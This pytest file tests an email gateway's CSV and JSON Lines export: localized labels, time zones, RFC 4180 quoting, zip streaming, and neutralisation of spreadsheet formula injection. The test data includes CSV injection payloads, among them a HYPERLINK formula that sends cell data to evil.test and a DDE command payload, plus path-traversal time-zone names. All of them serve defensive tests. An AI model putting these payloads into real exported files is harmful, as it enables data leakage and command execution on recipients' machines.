"""Export files as a spreadsheet or a script reads them: columns and labels in the locale, local
times, RFC 4180 CSV with a BOM, JSON Lines, a zip written to a stream that cannot seek, and no
cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from functions.export.export_all import Capped, Progress
from mailgate.catalog import (
    BlockReason,
    Direction,
    Locale,
    PolicyAction,
    Status,
    ThreatType,
    TrackingType,
)
from mailgate.export import formats
from mailgate.export.archive import write_zipped
from mailgate.export.cells import neutralised, time_zone
from mailgate.export.columns import EVENTS, TRACKING
from mailgate.export.formats import Format
from mailgate.policy.records import PolicyEvent
from mailgate.records import AttachmentRecord, TrackingRow

INJECTIONS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(1)",
]
TOKYO = ZoneInfo("Asia/Tokyo")


def _accepted(**fields: Any) -> TrackingRow:
    values: dict[str, Any] = {
        "tenant_id": "t",
        "message_uuid": "0b7f6f52-2f0e-4a7e-9d0c-1d2c3b4a5e6f",
        "recipient": "bob@example.com",
        "time": datetime(2025, 6, 15, 23, 30, 5, tzinfo=UTC),
        "direction": Direction.INBOUND,
        "sender": "alice@sender.test",
        "sender_ip": "203.0.113.7",
        "upstream_tls": "TLSv1.3",
        "status": Status.DELIVERED,
        "subject": "会議の資料について",
        "message_id": "<m1@sender.test>",
        "size": 2048,
        "delivered_to": "198.51.100.2",
        "downstream_tls": "TLSv1.2",
    }
    return TrackingRow(**(values | fields))


def _blocked(**fields: Any) -> TrackingRow:
    values: dict[str, Any] = {
        "type": TrackingType.BLOCKED,
        "status": None,
        "block_reason": BlockReason.SENDER_IP_QIL,
    }
    return _accepted(**(values | fields))


def _csv(
    rows: list[TrackingRow],
    locale: Locale = "en",
    zone: ZoneInfo = TOKYO,
    type: TrackingType = TrackingType.ACCEPTED,
) -> str:
    out = io.StringIO(newline="")
    assert formats.write(out, Format.CSV, TRACKING[type], rows, locale, zone) == len(rows)
    return out.getvalue()


def _records(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["Hello", "a=b", "会議", "", "'quoted", " =1", "<>", "2025"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralised(text) == text


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_in_any_text_column_is_neutralised_in_csv_and_jsonl(text: str) -> None:
    row = _accepted(subject=text, sender=text, message_id=text)

    (_, record) = _records(_csv([row]))
    out = io.StringIO(newline="")
    formats.write(out, Format.JSONL, TRACKING[TrackingType.ACCEPTED], [row], "en", TOKYO)
    line = json.loads(out.getvalue())

    assert record[3] == record[12] == record[14] == "'" + text
    assert line["subject"] == line["sender"] == line["message_id"] == "'" + text


def test_csv_is_utf8_with_bom_crlf_and_a_header_in_the_catalog_order() -> None:
    text = _csv([_accepted(), _accepted(recipient="carol@example.com")])

    assert text.startswith("\ufeff")
    assert text.count("\r\n") == 3 and "\n" not in text.replace("\r\n", "")
    header = _records(text)[0]
    assert header[:3] == ["Date", "Type", "Direction"]
    assert header[-1] == "Message UUID" and len(header) == 17
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_japanese_header_labels_and_text_are_intact() -> None:
    header, record = _records(_csv([_accepted()], locale="ja"))

    assert header[:5] == ["日時", "種類", "方向", "送信者", "受信者"]
    assert header[13] == "サイズ (KB)"
    assert record[1:3] == ["検索されたトラフィック", "受信"]
    assert record[7] == "配信済み"
    assert record[12] == "会議の資料について"


def test_english_labels_of_status_and_block_reason() -> None:
    (_, accepted) = _records(_csv([_accepted(status=Status.TEMPORARY_ERROR)]))
    blocked_text = _csv([_blocked()], type=TrackingType.BLOCKED)
    header, blocked = _records(blocked_text)

    assert accepted[7] == "Temporary delivery error"
    assert header == [
        "Date",
        "Type",
        "Direction",
        "Sender",
        "Recipient",
        "Sender IP",
        "Upstream TLS",
        "Block reason",
        "Message UUID",
    ]
    assert blocked[1] == "Blocked traffic"
    assert blocked[7] == "Sender IP found in QIL"
    ja = _records(_csv([_blocked()], locale="ja", type=TrackingType.BLOCKED))[1]
    assert ja[7] == "送信者のIPをQILで検出"


def test_quotes_commas_and_line_breaks_are_quoted_as_rfc_4180_says() -> None:
    subject = 'He said "hi", then\r\nleft'
    text = _csv([_accepted(subject=subject)])

    assert '"He said ""hi"", then\r\nleft"' in text
    assert _records(text)[1][12] == subject


def test_times_are_written_in_the_requested_zone() -> None:
    row = _accepted(time=datetime(2025, 6, 15, 23, 30, 5, tzinfo=UTC))

    assert _records(_csv([row], zone=TOKYO))[1][0] == "2025-06-16 08:30:05"
    assert _records(_csv([row], zone=ZoneInfo("America/New_York")))[1][0] == "2025-06-15 19:30:05"
    winter = _accepted(time=datetime(2025, 1, 15, 23, 30, 5, tzinfo=UTC))
    assert _records(_csv([winter], zone=ZoneInfo("America/New_York")))[1][0] == (
        "2025-01-15 18:30:05"
    )
    assert _records(_csv([row], zone=ZoneInfo("UTC")))[1][0] == "2025-06-15 23:30:05"


def test_null_sender_and_size_in_kb() -> None:
    record = _records(_csv([_accepted(sender="", size=1536)]))[1]

    assert record[3] == "<>"
    assert record[13] == "1.5"


@pytest.mark.parametrize(("locale", "cell"), [("en", "'=b.xlsx, a.pdf"), ("ja", "'=b.xlsx、a.pdf")])
def test_attachment_names_share_one_cell_neutralised(locale: Locale, cell: str) -> None:
    attachments = [
        AttachmentRecord(name="=b.xlsx", sha256="1" * 64),
        AttachmentRecord(name="a.pdf", sha256="0" * 64),
    ]
    header, record = _records(_csv([_accepted(attachments=attachments)], locale))
    assert record[header.index("Attachments" if locale == "en" else "添付ファイル")] == cell


def test_jsonl_has_typed_values_under_stable_keys() -> None:
    out = io.StringIO(newline="")
    formats.write(out, Format.JSONL, TRACKING[TrackingType.ACCEPTED], [_accepted()], "ja", TOKYO)
    line = json.loads(out.getvalue())

    assert line["date"] == "2025-06-16T08:30:05+09:00"
    assert line["size_kb"] == 2.0
    assert line["action"] == "配信済み"
    assert line["downstream_mta_sts"] == ""
    assert list(line)[-1] == "message_uuid"


class _Unseekable(io.RawIOBase):
    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b: Any) -> int:
        self.data += b
        return len(b)


def test_zip_is_written_to_a_stream_that_cannot_seek() -> None:
    sink = _Unseekable()
    rows = [_accepted(recipient=f"r{n}@example.com") for n in range(300)]

    written = write_zipped(
        sink,  # type: ignore[arg-type]
        "export.csv",
        lambda text: formats.write(
            text, Format.CSV, TRACKING[TrackingType.ACCEPTED], rows, "ja", TOKYO
        ),
    )

    assert written == 300
    with zipfile.ZipFile(io.BytesIO(bytes(sink.data))) as archive:
        assert archive.namelist() == ["export.csv"]
        content = archive.read("export.csv").decode("utf-8")
    assert content.startswith("\ufeff日時,")
    assert len(_records(content)) == 301


@pytest.mark.parametrize("name", ["Asia/Tokyo", "UTC", "America/Argentina/Buenos_Aires"])
def test_iana_zone_names_are_accepted(name: str) -> None:
    assert time_zone(name).key == name


@pytest.mark.parametrize(
    "name", ["", "JST+9", "Mars/Olympus", "../../etc/passwd", "/etc/localtime"]
)
def test_other_zone_names_are_refused(name: str) -> None:
    with pytest.raises(ValueError, match="IANA"):
        time_zone(name)


def test_capped_rows_tell_whether_more_were_left() -> None:
    exact = Capped(range(5), 5)
    over = Capped(range(6), 5)

    assert list(exact) == [0, 1, 2, 3, 4] and not exact.truncated
    assert list(over) == [0, 1, 2, 3, 4] and over.truncated


def test_progress_is_reported_every_so_many_rows_as_they_are_read() -> None:
    reported: list[int] = []
    seen: list[int] = []

    for item in Progress(range(7), 3, reported.append):
        seen.append(item)
        assert reported == [n for n in (3, 6) if n < len(seen)]  # after the row, not before

    assert seen == list(range(7)) and reported == [3, 6]


def _event(**fields: Any) -> PolicyEvent:
    values: dict[str, Any] = {
        "tenant_id": "t",
        "event_id": "0b7f6f52-2f0e-4a7e-9d0c-1d2c3b4a5e6f-2-1-001",
        "message_uuid": "0b7f6f52-2f0e-4a7e-9d0c-1d2c3b4a5e6f",
        "time": datetime(2025, 6, 15, 23, 30, 5, tzinfo=UTC),
        "received_at": datetime(2025, 6, 15, 23, 30, 1, tzinfo=UTC),
        "direction": Direction.INBOUND,
        "sender": "alice@sender.test",
        "recipients": ["john@example.com", "jane@example.com"],
        "header_to": ["John Irving <john@example.com>"],
        "subject": "請求書の送付",
        "message_id": "<m1@sender.test>",
        "size": 3072,
        "domain": "example.com",
        "rule_name": "Ransomware",
        "threat_type": ThreatType.RANSOMWARE,
        "detection_method": "machine_learning",
        "threat_name": "Ransom.Win32.TEST",
        "action": PolicyAction.QUARANTINE,
        "violating_file": "invoice.zip",
    }
    return PolicyEvent(**(values | fields))


def _event_csv(events: list[PolicyEvent], locale: Locale = "en") -> list[list[str]]:
    out = io.StringIO(newline="")
    assert formats.write(out, Format.CSV, EVENTS, events, locale, TOKYO) == len(events)
    return _records(out.getvalue())


def test_event_log_columns_and_labels_in_english() -> None:
    header, record = _event_csv([_event()])

    assert header == [
        "Date",
        "Sender",
        "Recipient",
        "Threat type",
        "Subtype",
        "Detection method",
        "Threat name",
        "Action",
        "Subject",
        "Message ID",
        "Message size",
        "Direction",
        "Rule name",
        "Domain",
        "Violating file",
    ]
    assert record == [
        "2025-06-16 08:30:05",
        "alice@sender.test",
        "John Irving <john@example.com>, jane@example.com",
        "Ransomware",
        "",
        "Detected by machine learning",
        "Ransom.Win32.TEST",
        "Quarantine",
        "請求書の送付",
        "<m1@sender.test>",
        "3",
        "Inbound",
        "Ransomware",
        "example.com",
        "invoice.zip",
    ]


def test_event_log_labels_and_recipient_separator_in_japanese() -> None:
    graymail = _event(
        threat_type=ThreatType.GRAYMAIL,
        subtype="social_network",
        detection_method="",
        action=PolicyAction.DELETE,
        sender="",
        header_to=["JANE <Jane@Example.com>", "not an address"],
    )

    header, record = _event_csv([graymail], locale="ja")

    assert header[:6] == ["日時", "送信者", "受信者", "脅威の種類", "サブタイプ", "検出方法"]
    assert header[-1] == "違反したファイル"
    assert record[1] == "<>"
    assert record[2] == "john@example.com、JANE <jane@example.com>"
    assert record[3:6] == ["グレーメール", "ソーシャルネットワーク通知", ""]
    assert record[7] == "メッセージ全体を削除"
    assert record[11] == "受信"


def test_an_event_code_the_catalog_does_not_know_is_shown_as_stored() -> None:
    record = _event_csv([_event(detection_method="=new_method()")])[1]

    assert record[5] == "'=new_method()"


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_in_any_event_text_column_is_neutralised(text: str) -> None:
    hostile = _event(
        sender=text,
        recipients=[text],
        header_to=[],
        subject=text,
        threat_name=text,
        rule_name=text,
        violating_file=text,
    )

    record = _event_csv([hostile])[1]
    out = io.StringIO(newline="")
    formats.write(out, Format.JSONL, EVENTS, [hostile], "en", TOKYO)
    line = json.loads(out.getvalue())

    assert {record[i] for i in (1, 2, 6, 8, 12, 14)} == {"'" + text}
    assert line["subject"] == line["recipient"] == line["violating_file"] == "'" + text
    assert line["message_size"] == 3.0
